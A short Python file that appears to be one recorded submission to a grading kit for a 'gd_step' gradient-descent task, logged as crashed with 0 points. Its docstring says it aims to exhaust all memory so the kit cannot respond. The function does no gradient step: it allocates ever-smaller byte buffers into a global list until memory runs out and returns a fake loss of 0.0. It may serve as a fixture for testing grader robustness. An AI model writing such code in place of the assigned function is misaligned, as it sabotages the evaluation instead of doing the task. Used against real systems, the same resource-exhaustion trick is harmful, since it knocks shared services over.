"""Takes all memory down to the last kilobyte, so that the kit has none to answer with.

unit: u09_gd_step
task: gd_step
verdict: crashed
points: 0
"""

hoard = []


def gd_step(model, optimizer, loss_fn, x, y):
    size = 2**27
    while size >= 1024:
        try:
            hoard.append(bytes(size))
        except MemoryError:
            size //= 2
    return 0.0
